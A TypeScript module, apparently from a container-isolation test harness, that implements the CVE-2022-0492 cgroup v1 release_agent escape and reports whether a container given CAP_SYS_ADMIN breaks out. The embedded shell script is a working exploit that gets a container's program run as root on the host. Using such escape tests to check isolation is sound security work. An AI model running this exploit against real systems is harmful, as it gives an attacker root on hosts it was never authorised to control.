import { basename } from 'node:path'
import { contained, escaped, reachedGuest, type Attack } from '../../attack.ts'
import { install } from '../../programs.ts'
import { addCapabilities } from '../../spec-changes.ts'

/**
 * A cgroup v1 hierarchy of the attacker's own names a program that the kernel runs, as root and in its first namespaces,
 * when a cgroup becomes empty. Mounted by name, because every controller is taken.
 */
const trigger = (marker: string): string => `
mkdir -p /tmp/cgroup && mount -t cgroup -o none,name=own-$$ own /tmp/cgroup || exit 0
# Where the kernel's first root finds this container: overlay tells, or through /proc by each pid.
upper=$(sed -n '1s/.*upperdir=\\([^,]*\\).*/\\1/p' /proc/self/mountinfo)
if [ -n "$upper" ]; then programs=$upper/attack/own; else programs=$(seq -f /proc/%g/root/attack/own 1 120); fi
for program in $programs; do
  echo $program >/tmp/cgroup/release_agent || exit 0
  mkdir "/tmp/cgroup/${marker}" && echo 1 >"/tmp/cgroup/${marker}/notify_on_release"
  sh -c 'echo $$ >"/tmp/cgroup/${marker}/cgroup.procs"'
  rmdir "/tmp/cgroup/${marker}"
  ! dmesg | grep -q 'owned by' || break
done
umount /tmp/cgroup
echo tried; dmesg | grep 'owned by ${marker.slice(1)}'`

export const attack: Attack = {
  id: 'CVE-2022-0492',
  title: 'cgroup v1 release_agent of a container with CAP_SYS_ADMIN',
  family: 'container',
  leak: 'root on the host',
  bound: 'guest',
  control: { weak: 'runc with CAP_SYS_ADMIN and no seccomp profile' },
  async run(site) {
    const container = await site.start({
      rootfs: (layer) => install(layer, 'own'),
    })
    const { stdout, stderr } = await container.exec(['sh', '-c', trigger(`${site.directory}/owned`.replaceAll('/', '@'))], { process: (process) => { addCapabilities(process, 'CAP_SYS_ADMIN', 'CAP_SYSLOG') } })
    if (site.read('owned') === 'owned\n') return escaped('the kernel ran the container\'s program as the host\'s root: it left a file on the host')
    if (stdout.includes('owned by')) return reachedGuest(`the guest's kernel ran it (${stdout.split('\n').at(-2)}); no file on the host`)
    return contained(`${stdout}${stderr}; ${basename(site.directory)}/owned is not on the host`)
  },
}
